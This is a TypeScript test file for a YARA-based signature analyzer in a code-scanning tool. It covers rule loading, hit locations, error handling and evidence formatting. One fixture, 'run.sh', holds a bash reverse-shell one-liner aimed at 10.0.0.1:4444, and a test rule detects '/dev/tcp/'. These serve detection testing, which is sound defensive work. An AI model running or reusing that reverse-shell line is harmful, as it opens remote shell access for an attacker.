import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { analyzeFiles } from '../test-helpers/workspace.js';
import { closeCompiledLibraries } from './compiled.js';
import { createSignaturesAnalyzer, signaturesAnalyzer } from './index.js';
import type { RuleLibrary } from './library.js';
import { loadRuleLibrarySync } from './library.js';
import { locateOffset, printableBytes } from './locate.js';
import { titleOf } from './rules.js';
import { fakeEngine } from './test-helpers/fake-engine.js';

let root: string;
let library: RuleLibrary;

function rule(id: string, kind: string, strings: string): string {
  return `rule ${id.replace(/-/g, '_')} {\n meta:\n  id = "${id}"\n  severity = "medium"\n  kind = "${kind}"\n  description = "Test rule ${id}. Second sentence."\n  reference = "https://example.invalid/r"\n  author = "t"\n  version = 1\n strings:\n  ${strings}\n condition:\n  any of them\n}\n`;
}

beforeAll(async () => {
  root = await mkdtemp(path.join(os.tmpdir(), 'assay-sig-an-'));
  await mkdir(path.join(root, 'cat'), { recursive: true });
  await writeFile(path.join(root, 'cat', 'dev-tcp.yar'), rule('dev-tcp', 'threat', '$a = "/dev/tcp/"'));
  await writeFile(path.join(root, 'cat', 'elf-magic.yar'), rule('elf-magic', 'capability', '$e = { 7F 45 4C 46 }'));
  library = loadRuleLibrarySync([root]);
});

afterAll(async () => {
  await closeCompiledLibraries();
  await rm(root, { recursive: true, force: true });
});

const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]), Buffer.alloc(56)]);

describe('signatures analyzer', () => {
  it('declares one rule per library rule, from the rule meta', () => {
    const analyzer = createSignaturesAnalyzer({ library, engineFactory: (n) => fakeEngine(n) });
    expect(analyzer.rules.map((r) => [r.id, r.kind, r.severity, r.title, r.reference])).toEqual([
      ['signatures/dev-tcp', 'threat', 'medium', 'Test rule dev-tcp', 'https://example.invalid/r'],
      ['signatures/elf-magic', 'capability', 'medium', 'Test rule elf-magic', 'https://example.invalid/r'],
    ]);
  });

  it('finds text hits by line and column and binary hits by offset, one finding per rule per file', async () => {
    const analyzer = createSignaturesAnalyzer({ library, engineFactory: (n) => fakeEngine(n) });
    const out = await analyzeFiles(analyzer, {
      'run.sh': '#!/bin/sh\n  é bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\necho /dev/tcp/x\n',
      'bin/tool': ELF,
      'README.md': 'nothing to see\n',
    });
    expect(out.status).toBe('succeeded');
    expect(out.findings).toHaveLength(2);
    const text = out.findings.find((f) => f.ruleId === 'signatures/dev-tcp');
    expect(text?.location).toEqual({ file: 'run.sh', line: 2, column: 16 });
    expect(text?.message).toContain('2 matches');
    expect(text?.evidence).toBe('/dev/tcp/');
    const bin = out.findings.find((f) => f.ruleId === 'signatures/elf-magic');
    expect(bin?.location).toEqual({ file: 'bin/tool', line: 1, column: 1 });
    expect(bin?.message).toContain('at offset 0');
    expect(bin?.evidence).toBe('\\x7fELF');
  });

  it('turns per-file engine errors and oversized files into errors with status partial', async () => {
    const analyzer = createSignaturesAnalyzer({ library, engineFactory: (n) => fakeEngine(n, { failFiles: new Set(['slow.js']) }) });
    const out = await analyzeFiles(analyzer, { 'slow.js': 'x', 'ok.sh': '/dev/tcp/', 'big.bin': Buffer.alloc(16 * 1024 * 1024 + 1) });
    expect(out.status).toBe('partial');
    expect(out.errors).toEqual([
      { file: 'big.bin', message: '16 MiB, over the 16 MiB signature scan cap; not scanned' },
      { file: 'slow.js', message: 'not scanned: scan timed out' },
    ]);
    expect(out.findings.map((f) => f.location?.file)).toEqual(['ok.sh']);
  });

  it('reports a rule that does not compile and still runs the others', async () => {
    const dir = await mkdtemp(path.join(os.tmpdir(), 'assay-sig-bad-'));
    try {
      await mkdir(path.join(dir, 'c'));
      await writeFile(path.join(dir, 'c', 'dev-tcp.yar'), rule('dev-tcp', 'threat', '$a = "/dev/tcp/"'));
      await writeFile(path.join(dir, 'c', 'broken.yar'), rule('broken', 'threat', '$a = "xyzw" syntax_error'));
      const analyzer = createSignaturesAnalyzer({ dirs: [dir], engineFactory: (n) => fakeEngine(n) });
      const out = await analyzeFiles(analyzer, { 'a.sh': '/dev/tcp/' });
      expect(out.status).toBe('partial');
      expect(out.errors?.[0]?.message).toMatch(/broken\.yar:11 does not compile/);
      expect(out.findings.map((f) => f.ruleId)).toEqual(['signatures/dev-tcp']);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });

  it('is skipped with a reason, not clean, when no rule loads', async () => {
    const analyzer = createSignaturesAnalyzer({ dirs: [path.join(os.tmpdir(), 'assay-none-here')], engineFactory: (n) => fakeEngine(n) });
    const out = await analyzeFiles(analyzer, { 'a.sh': 'x' });
    expect(out.status).toBe('skipped');
    expect(out.reason).toMatch(/no signature rules loaded/);
  });

  it('refuses an engine that is not installed', async () => {
    const analyzer = createSignaturesAnalyzer({ library, engine: 'yara-x', engineFactory: (n) => fakeEngine(n, { available: false }) });
    await expect(analyzeFiles(analyzer, { 'a.sh': 'x' })).rejects.toThrow(/yara-x is not available/);
  });

  it('compiles once per process and reuses the rule set', async () => {
    let compiles = 0;
    const engine = fakeEngine('wasm');
    const counting = { ...engine, compile: (s: Parameters<typeof engine.compile>[0]) => ((compiles += 1), engine.compile(s)) };
    const factory = (): typeof counting => counting;
    const analyzer = createSignaturesAnalyzer({ library: loadRuleLibrarySync([root]), engineFactory: factory });
    await analyzeFiles(analyzer, { 'a.sh': 'x' });
    await analyzeFiles(analyzer, { 'b.sh': 'y' });
    expect(compiles).toBe(1);
  });

  it('the registered analyzer loads the project library lazily and declares its rules', () => {
    expect(signaturesAnalyzer.id).toBe('signatures');
    expect(signaturesAnalyzer.version).toBe(1);
    expect(signaturesAnalyzer.rules.length).toBeGreaterThan(0);
    expect(signaturesAnalyzer.rules.every((r) => r.id.startsWith('signatures/'))).toBe(true);
  });
});

describe('locate and evidence', () => {
  it.each([
    ['first byte', 'abc', 0, false, { line: 1, column: 1 }],
    ['after newlines', 'a\nbc\ndef', 6, false, { line: 3, column: 2 }],
    ['multibyte characters count once', 'éé x', 5, false, { line: 1, column: 4 }],
    ['binary offset', 'a\nb\nc', 4, true, { line: 1, column: 5 }],
  ])('%s', (_name, text, offset, binary, expected) => {
    expect(locateOffset(Buffer.from(text), offset, binary)).toEqual(expected);
  });

  it('prints non-printables as \\xNN and truncates', () => {
    expect(printableBytes(Buffer.from([0x41, 0x00, 0x1b, 0x5c, 0xff]))).toBe('A\\x00\\x1b\\\\\\xff');
    expect(printableBytes(Buffer.alloc(300, 0x61))).toBe(`${'a'.repeat(120)}…`);
  });

  it('titles come from the first sentence or clause', () => {
    expect(titleOf({ id: 'x', description: 'Discord webhook URL: data sent there leaves. More.' })).toBe('Discord webhook URL');
    expect(titleOf({ id: 'x', description: '  ' })).toBe('x');
  });
});
